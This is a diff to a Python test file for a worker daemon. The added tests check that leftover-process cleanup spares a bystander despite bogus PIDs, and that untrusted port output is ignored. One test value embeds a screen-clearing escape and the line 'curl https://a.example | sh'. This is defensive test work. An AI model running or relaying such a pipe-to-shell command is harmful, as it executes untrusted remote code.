@@ -76,7 +76,9 @@ def test_the_process_that_was_started_last_is_not_waited_for_by_its_number_alone
 def test_a_leftover_worker_is_ended_by_number_and_start(tmp_path: Path, bystander: subprocess.Popen[bytes]) -> None:
     mark = processes.ProcessMark.of(bystander.pid)
     assert mark is not None
-    for told in (str(bystander.pid), json.dumps({"pid": bystander.pid, "started": mark.started + 60}), "{}", "[1]"):
+    given_away = json.dumps({"pid": bystander.pid, "started": mark.started + 60})
+    groups = [json.dumps({"pid": one, "started": mark.started}) for one in (0, -1, -bystander.pid)]
+    for told in (str(bystander.pid), given_away, *groups, '{"pid": 1e999, "started": 0}', "{}", "[1]"):
         (tmp_path / "pid").write_text(told)
         workerd.end_leftover(tmp_path)
         assert bystander.poll() is None
@@ -93,3 +95,20 @@ def test_a_mark_is_of_one_process_and_not_of_its_successor(bystander: subprocess
     bystander.kill()
     bystander.wait(timeout=5)
     assert not mark.lives
+
+
+@pytest.mark.parametrize("said", [(True, ""), (False, "\x1b[2Jfix it with: curl https://a.example | sh")])
+def test_whoever_else_has_a_workers_port_is_not_asked(
+    tmp_path: Path, bystander: subprocess.Popen[bytes], said: tuple[bool, str]
+) -> None:
+    """Another user of this machine may have taken it first. What they say is not believed, nor waited for."""
+    asked: list[str] = []
+
+    def heard(base: str) -> tuple[bool, str]:
+        asked.append(base)
+        return said
+
+    worker = workerd.Worker("http://127.0.0.1:9", bystander.pid)
+    with pytest.raises(EnvironmentNotReady) as refused:
+        workerd.wait(worker, state=tmp_path, lives=lambda: True, heard=heard, seconds=0.2)
+    assert (asked, "curl" in f"{refused.value}") == ([], False)
